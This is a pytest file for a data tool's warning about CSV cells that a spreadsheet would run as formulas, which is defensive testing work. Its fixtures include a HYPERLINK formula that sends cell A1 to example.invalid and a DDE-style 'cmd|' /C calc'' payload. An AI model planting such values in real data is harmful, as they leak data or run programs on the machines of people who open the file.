"""Text that a spreadsheet would run: ``validate`` warns about it; CSV outputs keep it as it is."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

from alignment.cli import main
from alignment.inputs import FORMULA_STARTS, _starts_like_formula, check_folder, formula_text_warnings
from tests.tiny_company import replace_line, write_company

FORMULA_NAME = '=HYPERLINK("http://example.invalid/?x="&A1,"Open invoice")'


def _csv_cell(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


class TestFormulaTextWarnings:
    def test_one_warning_per_column_naming_the_first_rows_and_the_count(self) -> None:
        df = pd.DataFrame(
            {
                "name": ["ok", "=1+1", "fine", "@SUM(A1)", "+x", "-y", "\tz", "\r=2", "a=b"],
                "note": ["", "", "", "", "", "", "", "", "-"],
            },
            dtype="str",
        )
        warnings = formula_text_warnings("customers.csv", df)
        assert [w.line() for w in warnings] == [
            "warning: customers.csv, row 3, column name: value '=1+1': expected text that does not start "
            "with =, +, -, @, a tab or a carriage return, which a spreadsheet would run as a formula "
            "(6 cells in this column: rows 3, 5, 6, 7, 8 and 1 more); the workbook's xlsx files keep it as text",
            "warning: customers.csv, row 10, column note: value '-': expected text that does not start "
            "with =, +, -, @, a tab or a carriage return, which a spreadsheet would run as a formula "
            "(1 cell in this column: row 10); the workbook's xlsx files keep it as text",
        ]

    def test_numbers_are_not_text_cells(self) -> None:
        df = pd.DataFrame(
            {"revenue": ["-12.5", "+3", "-0.10", "-.5", "-1e3"], "money": [-12.5, 3.0, -1.0, 0.0, 2.0]}
        )
        df["revenue"] = df["revenue"].astype("str")
        assert formula_text_warnings("actuals.csv", df) == []

    def test_a_number_followed_by_more_is_text(self) -> None:
        df = pd.DataFrame({"revenue": ["-12.5", "-12.5+cmd|' /C calc'!A0"]}, dtype="str")
        [warning] = formula_text_warnings("actuals.csv", df)
        assert (warning.row, warning.column, warning.value) == (3, "revenue", "-12.5+cmd|' /C calc'!A0")


class TestValidate:
    def test_validate_warns_about_formula_text_and_exits_0(self, tmp_path: Path, capsys) -> None:
        customers = replace_line(
            "customers",
            "C002,Brightline,SMB,South,S02",
            f"C002,{_csv_cell(FORMULA_NAME)},SMB,South,S02",
        )
        folder = write_company(tmp_path / "data", customers=customers)
        assert main(["validate", str(folder)]) == 0
        err = capsys.readouterr().err
        lines = [line for line in err.splitlines() if "a spreadsheet would run" in line]
        assert len(lines) == 1
        assert lines[0].startswith(
            "warning: customers.csv, row 3, column customer_name: value '=HYPERLINK(\"http://example.invalid"
        )
        assert "(1 cell in this column: row 3)" in lines[0]

    def test_the_sample_and_negative_money_do_not_warn(self, tmp_path: Path) -> None:
        folder = write_company(tmp_path / "data")
        assert "-20.00" in (folder / "actuals.csv").read_text(encoding="utf-8")
        _, problems, warnings = check_folder(folder)
        assert problems == []
        assert [w for w in warnings if "spreadsheet" in w.expected] == []

    def test_parquet_money_stored_as_numbers_is_not_checked(self, tmp_path: Path) -> None:
        folder = write_company(tmp_path / "data")
        actuals = pd.read_csv(folder / "actuals.csv", dtype={"month": "str", "customer_id": "str"})
        actuals.to_parquet(folder / "actuals.parquet", index=False)
        (folder / "actuals.csv").unlink()
        _, problems, warnings = check_folder(folder)
        assert problems == []
        assert [w for w in warnings if "spreadsheet" in w.expected] == []


@pytest.mark.slow
def test_csv_tables_keep_the_text_as_it_is(tmp_path: Path) -> None:
    customers = replace_line(
        "customers", "C002,Brightline,SMB,South,S02", f"C002,{_csv_cell(FORMULA_NAME)},SMB,South,S02"
    )
    write_company(tmp_path / "data", customers=customers)
    params = tmp_path / "plan.yaml"
    params.write_text("data_dir: data\nreview: {month: 2026-01}\ncelebration: {quarter: 2026-Q1}\n")
    assert main(["plan", str(params), "--out", str(tmp_path / "out")]) == 0
    with open(tmp_path / "out" / "final_quotas.csv", newline="", encoding="utf-8") as fh:
        names = {row["customer_id"]: row["customer_name"] for row in csv.DictReader(fh)}
    assert names["C002"] == FORMULA_NAME
    assert _csv_cell(FORMULA_NAME) in (tmp_path / "out" / "final_quotas.csv").read_text(encoding="utf-8")


texts = st.lists(st.one_of(st.text(alphabet="=+-@\t\r a1é.", max_size=4), st.none()), max_size=30)


@given(texts, st.integers(min_value=0, max_value=5), st.sampled_from(["str", "object", "chunked"]))
def test_the_first_character_test_is_the_regular_expression(values, skip, kind) -> None:
    if kind == "chunked":  # several Arrow chunks, as a large Parquet file reads
        half = len(values) // 2
        chunks = pa.chunked_array(
            [pa.array(values[:half], pa.large_string()), pa.array(values[half:], pa.large_string())]
        )
        s = pd.Series(pd.arrays.ArrowStringArray(chunks))
    else:
        s = pd.Series(values, dtype=kind)
    s = s.iloc[skip:]  # a slice: Arrow arrays with an offset
    expected = s.astype(object).map(lambda v: isinstance(v, str) and v[:1] in FORMULA_STARTS and v != "")
    assert _starts_like_formula(s.astype("str")).tolist() == expected.tolist()
